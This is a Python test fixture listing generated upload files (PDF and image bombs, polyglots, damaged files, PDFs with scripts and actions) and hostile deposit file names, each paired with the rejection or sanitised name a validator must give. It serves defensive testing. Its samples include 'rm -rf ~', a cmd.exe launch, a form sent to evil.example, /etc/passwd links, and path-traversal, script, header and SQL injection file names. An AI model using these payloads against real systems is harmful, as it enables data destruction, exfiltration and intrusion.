"""What people deposit, what breaks and what attacks: one table of files with what must become of each.

Nothing of it is kept in the repository: each file is made when its test runs.
"""

from collections.abc import Callable
from dataclasses import dataclass

from pikepdf import Array, Name, ObjectStreamMode, String

from services.documents.models import DocumentType as Kind
from tests.clamd import EICAR
from tests.services.documents.corpus import images, pdfs, strangers
from tests.services.documents.corpus.images import cut, gif, jpeg, png
from tests.services.documents.corpus.pdfs import pdf

LARGEST = 5 * 1024 * 1024
XML = b"<?xml version='1.0'?><a>42</a>\n"

EMPTY, TOO_LARGE, UNKNOWN = "FILE_EMPTY", "FILE_TOO_LARGE", "FILE_TYPE_UNKNOWN"
DAMAGED, ENCRYPTED, ACTIVE = "FILE_DAMAGED", "FILE_ENCRYPTED", "FILE_ACTIVE"
ANIMATED, TOO_COMPLEX, MIXED = "FILE_ANIMATED", "FILE_TOO_COMPLEX", "FILE_MIXED"


@dataclass(frozen=True)
class Kept:
    """The file is taken."""

    kind: Kind
    pages: int = 1


@dataclass(frozen=True)
class File:
    """A file and what becomes of it: kept, or refused for a reason."""

    says: str
    make: Callable[[], bytes]
    becomes: Kept | str

    def __str__(self) -> str:
        return self.says


PDF, JPEG, PNG, GIF = (Kept(kind) for kind in (Kind.PDF, Kind.JPEG, Kind.PNG, Kind.GIF))
OBJECT_STREAMS = {"object_stream_mode": ObjectStreamMode.generate}

# fmt: off
FILES = tuple(File(*row) for row in (
    # --- Sizes
    ("nothing", lambda: b"", EMPTY),
    ("one byte", lambda: b"%", UNKNOWN),
    ("a PNG of exactly 5 MiB", lambda: images.filled_png(LARGEST), PNG),
    ("a PNG of 5 MiB and a byte", lambda: images.filled_png(LARGEST + 1), TOO_LARGE),
    ("a PDF of exactly 5 MiB", lambda: pdfs.filled(LARGEST), PDF),
    ("a PDF of 5 MiB and a byte", lambda: pdfs.filled(LARGEST + 1), TOO_LARGE),
    # --- Other kinds
    ("a page of HTML", lambda: strangers.HTML, UNKNOWN),
    ("a drawing that scripts (SVG)", lambda: strangers.SVG, UNKNOWN),
    ("a program for Windows", lambda: strangers.PROGRAM, UNKNOWN),
    ("a program for Linux", lambda: strangers.ELF, UNKNOWN),
    ("a shell script", lambda: b"#!/bin/sh\nrm -rf ~\n", UNKNOWN),
    ("an archive", strangers.archive, UNKNOWN),
    ("a text of Word", strangers.word, UNKNOWN),
    ("rich text", lambda: strangers.RICH_TEXT, UNKNOWN),
    ("PostScript", lambda: strangers.POSTSCRIPT, UNKNOWN),
    ("a WebP", lambda: strangers.WEBP, UNKNOWN),
    ("a HEIC of an iPhone", lambda: strangers.HEIC, UNKNOWN),
    ("a video", lambda: strangers.VIDEO, UNKNOWN),
    ("a TIFF", lambda: strangers.TIFF, UNKNOWN),
    ("a BMP", lambda: strangers.BITMAP, UNKNOWN),
    ("words", "Justificatif à venir".encode, UNKNOWN),
    ("a PDF in UTF-16", lambda: pdf().decode("latin-1").encode("utf-16"), UNKNOWN),
    ("the test file of antivirus programs", lambda: EICAR, UNKNOWN),
    # --- Two kinds in one
    ("a JPEG, then an archive", lambda: jpeg() + strangers.archive(), MIXED),
    ("a JPEG with an archive in its comment", strangers.archive_in_comment, MIXED),
    ("a JPEG, then a page of HTML", lambda: jpeg() + strangers.HTML, MIXED),
    ("a JPEG, then PHP", lambda: jpeg() + strangers.PHP, MIXED),
    ("a JPEG, then a PDF", lambda: jpeg() + pdf(), MIXED),
    ("a photograph with its video", strangers.motion_photo, MIXED),
    ("a JPEG, then a second one that ends with an archive", lambda: jpeg() + jpeg() + strangers.archive(), MIXED),
    ("notes of a phone that are a program", lambda: jpeg() + images.notes([strangers.PROGRAM * 400]), MIXED),
    ("notes of a phone that lie about their length", lambda: jpeg() + images.notes([b"note"], lie=9), MIXED),
    ("a PNG, then PHP", lambda: png() + strangers.PHP, MIXED),
    ("a PNG, then an archive", lambda: png() + strangers.archive(), MIXED),
    ("a PNG, then another", strangers.png_in_png, MIXED),
    ("a GIF, then a script", strangers.gif_then_script, MIXED),
    ("a GIF, then an archive", lambda: gif() + strangers.archive(), MIXED),
    ("a GIF whose size is a script", images.gif_script, TOO_COMPLEX),
    ("HTML, then a PDF", strangers.html_then_pdf, MIXED),
    ("a program, then a PDF", strangers.program_then_pdf, MIXED),
    ("an archive, then a PDF", lambda: strangers.archive() + pdf(), MIXED),
    ("a PDF, then an archive", lambda: pdf() + strangers.archive(), MIXED),
    ("a PDF, then HTML", lambda: pdf() + strangers.HTML, MIXED),
    ("a PDF with an archive in a remark at its end", strangers.archive_in_remark, MIXED),
    # --- Bombs
    ("a PNG of 169 megapixels in 20 KB", lambda: images.bomb_png(13_000, 13_000), TOO_COMPLEX),
    ("a PNG of 65 500 by 65 500", lambda: images.only_header(65_500, 65_500), TOO_COMPLEX),
    ("a PNG as large as numbers go", lambda: images.only_header(2**31 - 1, 2**31 - 1), TOO_COMPLEX),
    ("a PNG of exactly 40 megapixels", lambda: images.bomb_png(8000, 5000), PNG),
    ("a PNG of one row more", lambda: images.bomb_png(8000, 5001), TOO_COMPLEX),
    ("a PNG with a packed text (zTXt) of 1 GB", lambda: images.packed_bomb(b"zTXt", b"a\0\0"), TOO_COMPLEX),
    ("a PNG with a packed text (iTXt) of 1 GB", lambda: images.packed_bomb(b"iTXt", b"a\0\1\0\0\0"), TOO_COMPLEX),
    ("a PNG with a profile of 1 GB", lambda: images.packed_bomb(b"iCCP", b"a\0\0"), TOO_COMPLEX),
    ("a GIF with a canvas of 65 535 by 65 535", lambda: images.gif_canvas(65_535, 65_535), TOO_COMPLEX),
    ("a GIF with an image far outside", images.gif_frame_outside, TOO_COMPLEX),
    ("a JPEG of 65 500 by 65 500", lambda: images.resized_jpeg(65_500, 65_500), TOO_COMPLEX),
    ("a JPEG with 10 000 scans", lambda: images.many_scans(10_000), TOO_COMPLEX),
    ("a PDF that unpacks to 1 GB", pdfs.flate_bomb, TOO_COMPLEX),
    ("a PDF that unpacks twice, to 4 GB", pdfs.double_flate_bomb, TOO_COMPLEX),
    ("a PDF of runs that unpack to 77 MB", pdfs.run_length_bomb, TOO_COMPLEX),
    ("a PDF of streams that are too much together", pdfs.many_streams, TOO_COMPLEX),
    ("a PDF of objects that unpack to 512 MB", pdfs.object_stream_bomb, TOO_COMPLEX),
    ("a PDF with an image of 900 megapixels", lambda: pdfs.with_image(30_000, 30_000), TOO_COMPLEX),
    ("a PDF of 100 pages", lambda: pdf(pages=100), Kept(Kind.PDF, 100)),
    ("a PDF of 101 pages", lambda: pdf(pages=101), TOO_COMPLEX),
    ("a PDF of 5 000 pages", lambda: pdf(pages=5000), TOO_COMPLEX),
    ("a PDF with a tree of pages 1 000 deep", lambda: pdfs.nested_pages(1000), DAMAGED),
    ("a PDF whose tree of pages loops", pdfs.page_loop, DAMAGED),
    ("a PDF whose table of objects loops", pdfs.table_loop, DAMAGED),
    ("a PDF with lists 100 000 deep", lambda: pdfs.deep_list(100_000), TOO_COMPLEX),
    ("a PDF of 50 000 objects", lambda: pdfs.many_objects(50_000), PDF),
    # --- Broken
    ("the beginning of a JPEG", lambda: cut(jpeg), DAMAGED),
    ("the beginning of a PNG", lambda: cut(png), DAMAGED),
    ("the beginning of a GIF", lambda: cut(gif), DAMAGED),
    ("the beginning of a PDF", lambda: cut(pdf), DAMAGED),
    ("the first bytes of a JPEG", lambda: jpeg()[:4], DAMAGED),
    ("the first bytes of a PNG", lambda: png()[:8], DAMAGED),
    ("the first bytes of a GIF", lambda: gif()[:6], DAMAGED),
    ("the first bytes of a PDF", lambda: b"%PDF-1.7\n", DAMAGED),
    ("a PNG changed on the way", images.broken_sum, DAMAGED),
    ("a PNG with a wrong sum", lambda: images.with_chunk(b"tEXt", b"a\0b", total=1), DAMAGED),
    ("a PNG without its image", lambda: images.only_header(10, 10), DAMAGED),
    ("a PNG of no width", lambda: images.only_header(0, 10), DAMAGED),
    ("a GIF without an image", lambda: gif()[:13] + b";", DAMAGED),
    ("a JPEG without an image", lambda: b"\xff\xd8\xff\xe0\0\4ab\xff\xd9", DAMAGED),
    ("a PDF of rubbish", lambda: b"%PDF-1.7\nrubbish\n%%EOF\n", DAMAGED),
    ("a PDF without pages", lambda: pdf(pages=0), DAMAGED),
    # --- Protected
    ("a PDF that asks for a password", lambda: pdfs.encrypted("secret"), ENCRYPTED),
    ("a PDF that only forbids changes", lambda: pdfs.encrypted(""), PDF),
    # --- PDFs that act
    ("a PDF with a script", pdfs.with_script, ACTIVE),
    ("a PDF with a script whose name is hidden", pdfs.hidden_script, ACTIVE),
    ("a PDF with a script in packed objects", pdfs.script_in_object_stream, ACTIVE),
    ("a PDF with a script in a link", lambda: pdfs.with_action(S=Name.JavaScript, JS=String("a")), ACTIVE),
    ("a PDF that starts a program", lambda: pdfs.with_action(S=Name.Launch, F=String("cmd.exe")), ACTIVE),
    ("a PDF that opens another file", lambda: pdfs.with_action(S=Name.GoToR, F=String("//host/share")), ACTIVE),
    ("a PDF that sends a form", lambda: pdfs.with_action(S=Name.SubmitForm, F=String("https://evil.example")), ACTIVE),
    ("a PDF that plays a sound", lambda: pdfs.with_action(S=Name.Sound), ACTIVE),
    ("a PDF that opens a local address", lambda: pdfs.with_link("file:///etc/passwd"), ACTIVE),
    ("a PDF that opens a folder of the network", lambda: pdfs.with_link("\\\\host\\share"), ACTIVE),
    ("a PDF with a script for an address", lambda: pdfs.with_link("JavaScript:a()"), ACTIVE),
    ("a PDF that opens a page of the web", lambda: pdfs.opening(S=Name.URI, URI=String("https://a.example")), ACTIVE),
    ("a PDF that acts when it is printed", pdfs.printing, ACTIVE),
    ("a PDF with a file inside", lambda: pdfs.with_attachment("facture.exe"), ACTIVE),
    ("an electronic invoice, with its figures inside", lambda: pdfs.with_attachment("factur-x.xml", content=XML), PDF),
    ("a program with the name of an invoice", lambda: pdfs.with_attachment("factur-x.xml"), ACTIVE),
    ("an invoice and a program", lambda: pdfs.with_attachment("factur-x.xml", "a.exe", content=XML), ACTIVE),
    ("an invoice that unpacks to 4 MB", lambda: pdfs.with_attachment("factur-x.xml", content=XML * 100_000), ACTIVE),
    ("a PDF with a file on the page", lambda: pdfs.with_annotation("/FileAttachment"), ACTIVE),
    ("a PDF with a film", lambda: pdfs.with_annotation("/RichMedia"), ACTIVE),
    ("a PDF with another form inside (XFA)", lambda: pdfs.form(XFA=String("<xdp/>")), ACTIVE),
    ("a PDF whose page is another file", pdfs.external_stream, ACTIVE),
    ("a PDF with the test file of antivirus programs", lambda: pdfs.with_text(EICAR), PDF),
    # --- PDFs that people have
    ("a PDF that opens at a page", lambda: pdfs.opening(S=Name.GoTo, D=Array([0, Name.Fit])), PDF),
    ("a PDF with links to the site of a bank", lambda: pdfs.with_link("https://banque.example"), PDF),
    ("a PDF with a link to write a mail", lambda: pdfs.with_link("mailto:a@example.fr"), PDF),
    ("a PDF with a link without « https »", lambda: pdfs.with_link("www.banque.example/rib"), PDF),
    ("a PDF whose fonts are called like actions", pdfs.odd_fonts, PDF),
    ("a PDF form that was filled", pdfs.form, PDF),
    ("a PDF with packed objects", lambda: pdf(pages=3, **OBJECT_STREAMS), Kept(Kind.PDF, 3)),
    ("a PDF for slow networks", lambda: pdf(pages=3, linearize=True), Kept(Kind.PDF, 3)),
    ("a PDF 2.0", lambda: pdf(force_version="2.0"), PDF),
    ("an old PDF", lambda: pdf(force_version="1.2"), PDF),
    ("a PDF with two revisions", pdfs.updated, PDF),
    ("a scan", lambda: pdfs.with_image(200, 100), PDF),
    ("a PDF whose table of objects is wrong", pdfs.wrong_table, PDF),
    ("a PDF behind a mark of UTF-8", lambda: b"\xef\xbb\xbf" + pdf(), PDF),
    ("a PDF behind an empty line", lambda: b"\r\n" + pdf(), PDF),
    ("a PDF before empty lines", lambda: pdf() + b"\r\n\r\n\0\0", PDF),
    # --- Images that people have
    ("a GIF that moves", lambda: images.animated("GIF"), ANIMATED),
    ("a PNG that moves", lambda: images.animated("PNG"), ANIMATED),
    ("a GIF", gif, GIF),
    ("a GIF in passes", lambda: gif(interlace=1), GIF),
    ("a transparent GIF", lambda: gif(transparency=0), GIF),
    ("a GIF before zeros", lambda: gif() + bytes(100), GIF),
    ("a PNG", png, PNG),
    ("a PNG in passes", images.interlaced_png, PNG),
    ("a PNG of 16 bits", images.sixteen_bits, PNG),
    ("a PNG of one bit", lambda: png("1"), PNG),
    ("a PNG with a table of colours", lambda: png("P"), PNG),
    ("a transparent PNG", lambda: png("RGBA"), PNG),
    ("a grey PNG with transparency", lambda: png("LA"), PNG),
    ("a PNG before an empty line", lambda: png() + b"\r\n", PNG),
    ("a JPEG", jpeg, JPEG),
    ("a JPEG of four pixels", lambda: jpeg(size=(2, 2)), JPEG),
    ("a JPEG for printers (CMYK)", lambda: jpeg("CMYK"), JPEG),
    ("a JPEG in shades of grey", lambda: jpeg("L"), JPEG),
    ("a progressive JPEG", lambda: jpeg(progressive=True), JPEG),
    ("a JPEG held on its side", images.rotated, JPEG),
    ("a JPEG that says where it was taken", images.located, JPEG),
    ("a JPEG with a profile of 4 MB", lambda: jpeg(icc_profile=bytes(4_000_000)), JPEG),
    ("a JPEG before zeros", lambda: jpeg() + bytes(1000), JPEG),
    ("a JPEG with smaller ones behind it", lambda: jpeg() + bytes(6) + jpeg(size=(60, 40)) + jpeg("L"), JPEG),
    ("a JPEG with the notes of a phone", lambda: jpeg() + images.notes([b"Image_UTC_Data17", b"note"]), JPEG),
))
# fmt: on

# Names of PDFs as their depositors have them, and those under which they are kept (S-DOC-3).
NAMES = {
    "rib.pdf": "rib.pdf",
    "A.PDF": "A.PDF",
    "Facture_no-3.pdf": "Facture_no-3.pdf",
    "": "piece.pdf",
    ".pdf": "piece.pdf",
    "rib": "rib.pdf",
    "rib.png": "rib.pdf",
    "rib.pdf.exe": "rib-pdf.pdf",
    "relevé d’identité.pdf": "releve-d-identite.pdf",
    "cœur.pdf": "coeur.pdf",
    "日本語.pdf": "piece.pdf",
    "🧾.pdf": "piece.pdf",
    "../../../etc/passwd.pdf": "passwd.pdf",
    "C:\\Users\\moi\\rib.pdf": "rib.pdf",
    "..": "piece.pdf",
    "CON.pdf": "piece-CON.pdf",
    "lpt1.pdf": "piece-lpt1.pdf",
    "<script>alert(1)</script>.pdf": "script.pdf",
    "rib\r\nSet-Cookie: a=b.pdf": "rib-Set-Cookie-a-b.pdf",
    "rib\0.pdf": "rib.pdf",
    "rib\u202efdp.exe": "rib-fdp.pdf",
    "'; DROP TABLE documents; --.pdf": "DROP-TABLE-documents.pdf",
    "a" * 50 + ".pdf": "a" * 50 + ".pdf",
    "a" * 51 + ".pdf": "a" * 50 + ".pdf",
    "é" * 2000 + ".pdf": "e" * 50 + ".pdf",
    "  rib.pdf  ": "rib.pdf",
    "%2e%2e%2frib.pdf": "2e-2e-2frib.pdf",
}
